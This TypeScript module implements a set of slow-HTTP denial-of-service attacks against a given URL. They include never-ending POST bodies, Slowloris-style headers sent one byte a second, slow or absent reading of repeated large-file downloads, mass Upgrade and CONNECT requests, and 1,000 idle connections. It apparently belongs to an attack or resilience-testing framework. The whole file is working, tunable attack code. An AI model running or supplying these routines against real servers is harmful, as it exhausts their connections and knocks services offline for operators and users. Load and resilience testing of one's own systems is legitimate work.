import type { Assault, Attack, Outcome } from './attack.ts';
import { largestFileOf } from './largest-file.ts';
import { headOf, RawConnections, repeat, type Reading } from './raw-connections.ts';

const HALF_OPEN = { atOnce: 300, perSecond: 20 };
const UNREAD = { connections: 170, requests: 24 };
const UPGRADES = 1_100;
const IDLE = 1_000;
const SLOW_HEADS = 300;

/** Bodies that are announced and never end: 300 at once, then 20 more each second. */
export const halfOpenBodies: Attack = (assault) => {
  const headers = { 'content-type': 'application/json', 'content-length': '100' };
  const head = `${headOf(assault.url, 'POST /rest/connect', headers)}{"accountN`;
  return hold(assault, {
    first: (raw) => raw.open(HALF_OPEN.atOnce, { head }),
    everyMs: 1_000 / HALF_OPEN.perSecond,
    then: (raw) => raw.open(1, { head }),
  });
};

/** 170 connections that ask 24 times each for the largest file of the site and read nothing. */
export const unreadAnswers: Attack = (assault) => askForFile(assault, 'nothing');

/** The same, but each reads ten bytes a second. */
export const barelyReadAnswers: Attack = (assault) => askForFile(assault, 'sips');

/** 1,100 connections that want to become something else, by `Upgrade` or CONNECT, at an address that nobody has. */
export const upgrades: Attack = (assault) => {
  const { url } = assault;
  const upgradeTo = (name: string, more = {}) =>
    headOf(url, 'GET /zz', { connection: 'Upgrade', upgrade: name, ...more });
  const webSocket = { 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==', 'sec-websocket-version': '13' };
  const heads = [
    upgradeTo('x'),
    upgradeTo('websocket', webSocket),
    upgradeTo('h2c', { connection: 'Upgrade, HTTP2-Settings', 'http2-settings': 'AAMAAABkAAQAAP__' }),
    headOf(url, `CONNECT ${new URL(url).host}`),
  ];
  return hold(assault, {
    first: (raw) => heads.forEach((head) => raw.open(UPGRADES / heads.length, { head })),
  });
};

/** 1,000 connections that do nothing: every second one after an answer, the others from the beginning. */
export const idleConnections: Attack = (assault) =>
  hold(assault, {
    first: (raw) => {
      raw.open(IDLE / 2, { head: headOf(assault.url, 'GET /robots.txt') });
      raw.open(IDLE / 2, { head: '' });
    },
  });

/** 300 connections that send the head of a request one letter a second. */
export const slowHeads: Attack = (assault) =>
  hold(assault, {
    first: (raw) =>
      raw.open(SLOW_HEADS, { head: `GET / HTTP/1.1\r\nhost: ${new URL(assault.url).host}\r\nx-a: ` }),
    everyMs: 1_000,
    then: (raw) => raw.write('a'),
  });

async function askForFile(assault: Assault, reads: Reading): Promise<Outcome> {
  const file = await largestFileOf(assault.url);
  const question = headOf(assault.url, `GET ${file}`, { 'accept-encoding': 'identity' });
  return hold(assault, {
    first: (raw) => raw.open(UNREAD.connections, { head: question.repeat(UNREAD.requests), reads }),
    everyMs: 1_000,
    then: (raw) => {
      if (reads === 'sips') raw.sip();
    },
  });
}

type Holding = {
  readonly first: (raw: RawConnections) => void;
  readonly everyMs?: number;
  readonly then?: (raw: RawConnections) => void;
};

/** Opens connections, does something with them every now and then, and closes them when the attack is over. */
async function hold(assault: Assault, { first, everyMs = 1_000, then }: Holding): Promise<Outcome> {
  const raw = new RawConnections(assault);
  first(raw);
  await repeat(assault, { everyMs, work: () => then?.(raw) });
  return raw.close();
}
